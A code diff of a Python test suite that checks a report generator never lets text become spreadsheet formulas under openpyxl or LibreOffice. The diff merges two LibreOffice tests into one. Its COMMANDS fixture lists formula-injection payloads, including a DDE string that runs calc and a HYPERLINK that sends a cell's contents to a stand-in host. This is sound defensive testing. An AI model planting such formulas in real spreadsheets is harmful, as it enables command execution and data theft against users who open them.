@@ -13,7 +13,7 @@ from smmstrategy.reports.document import Day, Field, Figure, Grid, Quote, Sheet,
 from smmstrategy.reports.excel import draw
 from smmstrategy.reports.text import safe_text
 from tests.reports import example
-from tests.reports.reading import cells, converted, formula_cells
+from tests.reports.reading import all_converted, cells, formula_cells
 
 COMMANDS = (
     "cmd|' /C calc'!A0", 'HYPERLINK("http://x/?"&A1,"click")', "1+1", 'WEBSERVICE("http://x")', "SUM(A1:A9)", "IMPORTXML(1)",
@@ -54,13 +54,12 @@ def test_no_text_becomes_a_formula_for_openpyxl(quick_from):
 
 
 @pytest.mark.slow
-@pytest.mark.parametrize("quick_from", [ORDINARY, QUICK])
-def test_no_text_becomes_a_formula_for_libreoffice(libreoffice, tmp_path, quick_from):
-    content = draw(hostile_document(PAYLOADS), quick_from=quick_from).content
-    saved = converted(libreoffice, tmp_path, content)
-    assert formula_cells(saved) == []
-    shown = list(cells(saved).values())
-    assert [payload for payload in PAYLOADS if payload not in shown] == []
+def test_no_text_becomes_a_formula_for_libreoffice(libreoffice, tmp_path):
+    drawn = [draw(hostile_document(PAYLOADS), quick_from=quick_from).content for quick_from in (ORDINARY, QUICK)]
+    for saved in all_converted(libreoffice, tmp_path, drawn):
+        assert formula_cells(saved) == []
+        shown = list(cells(saved).values())
+        assert [payload for payload in PAYLOADS if payload not in shown] == []
 
 
 characters = st.characters(exclude_categories=()) | st.sampled_from("\x00\x0b\x1b\ufffe\uffff\ud800\udfff\u202e\u200d🦊<&>\"'_x")
